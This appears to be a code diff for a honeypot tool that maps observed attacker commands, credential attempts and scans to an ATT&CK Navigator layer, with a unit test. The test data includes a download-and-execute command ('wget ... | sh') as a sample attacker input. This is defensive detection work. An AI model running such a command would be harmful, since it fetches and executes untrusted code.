@@ -385,6 +385,71 @@ fn tag_value(v: &str) -> String {
         .collect()
 }
 
+/// What an ATT&CK Navigator layer needs of one attacker (`decnet.export_navigator`).
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct AttackerActivity {
+    /// Its kept commands (decnet.attacker_commands: the first and last ones).
+    #[serde(default)]
+    pub commands: Vec<String>,
+    /// Distinct credentials it tried.
+    pub credentials: i64,
+    /// Whether it scanned a service (decnet.service_buckets).
+    pub scanned: bool,
+}
+
+/// Techniques that come from what an attacker did rather than typed: a
+/// credential tried is password guessing, a scanned service active scanning.
+const ACTIVITY_TECHNIQUES: [(&str, &str); 2] = [
+    ("T1110.001", "Brute Force: Password Guessing"),
+    ("T1595", "Active Scanning"),
+];
+
+/// An ATT&CK Navigator layer (format 4.5, Enterprise): per technique, the
+/// number of attackers that showed it, from their commands
+/// (`identity::COMMAND_RULES`), credentials and scans.
+pub fn navigator_layer(attackers: &[AttackerActivity], scope: &str) -> Value {
+    let mut counts: BTreeMap<&str, (&str, i64)> = BTreeMap::new();
+    for a in attackers {
+        let mut mine: BTreeMap<&str, &str> = BTreeMap::new();
+        for c in &a.commands {
+            for r in crate::identity::command_techniques(c) {
+                mine.insert(r.technique, r.technique_name);
+            }
+        }
+        let [(guess, guess_name), (scan, scan_name)] = ACTIVITY_TECHNIQUES;
+        if a.credentials > 0 {
+            mine.insert(guess, guess_name);
+        }
+        if a.scanned {
+            mine.insert(scan, scan_name);
+        }
+        for (t, name) in mine {
+            counts.entry(t).or_insert((name, 0)).1 += 1;
+        }
+    }
+    let max = counts.values().map(|(_, n)| *n).max().unwrap_or(1);
+    let techniques: Vec<Value> = counts
+        .iter()
+        .map(|(t, (name, n))| {
+            json!({"techniqueID": t, "score": n, "enabled": true,
+                   "comment": format!("{name}: {n} attacker(s) seen by decnet")})
+        })
+        .collect();
+    json!({
+        "name": format!("decnet ({scope})"),
+        "versions": {"layer": "4.5", "navigator": "5.1.0", "attack": "16"},
+        "domain": "enterprise-attack",
+        "description": format!("Techniques {} decnet attacker(s) showed; score: attackers per technique", attackers.len()),
+        "sorting": 3,
+        "hideDisabled": false,
+        "techniques": techniques,
+        "gradient": {"colors": ["#ffe766", "#ff6666"], "minValue": 0, "maxValue": max},
+        "legendItems": [],
+        "selectTechniquesAcrossTactics": true,
+    })
+}
+
 /// One CSV field (RFC 4180), made safe for spreadsheets: attacker-written text
 /// that starts like a formula (`=`, `+`, `-`, `@`, tab, CR) gets a leading `'`
 /// (OWASP's advice against CSV injection), then the field is quoted when needed.
@@ -617,6 +682,42 @@ mod tests {
         assert!(attrs
             .iter()
             .any(|x| x["type"] == "ip-src" && x["value"] == "198.51.100.3"));
+    }
+
+    #[test]
+    fn a_navigator_layer_counts_attackers_per_technique() {
+        let a = |commands: &[&str], credentials, scanned| AttackerActivity {
+            commands: commands.iter().map(|c| c.to_string()).collect(),
+            credentials,
+            scanned,
+        };
+        let layer = navigator_layer(
+            &[
+                a(
+                    &["uname -a", "uname -r", "wget http://x/y -O- | sh"],
+                    3,
+                    true,
+                ),
+                a(&["uname -a"], 0, false),
+                a(&[], 1, true),
+            ],
+            "all attackers",
+        );
+        let score = |t: &str| {
+            layer["techniques"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .find(|x| x["techniqueID"] == t)
+                .map(|x| x["score"].as_i64().unwrap())
+        };
+        assert_eq!(score("T1082"), Some(2), "two attackers, not three commands");
+        assert_eq!(score("T1105"), Some(1));
+        assert_eq!(score("T1110.001"), Some(2));
+        assert_eq!(score("T1595"), Some(2));
+        assert_eq!(score("T1021.004"), None);
+        assert_eq!(layer["gradient"]["maxValue"], 2);
+        assert_eq!(layer["domain"], "enterprise-attack");
     }
 
     #[test]
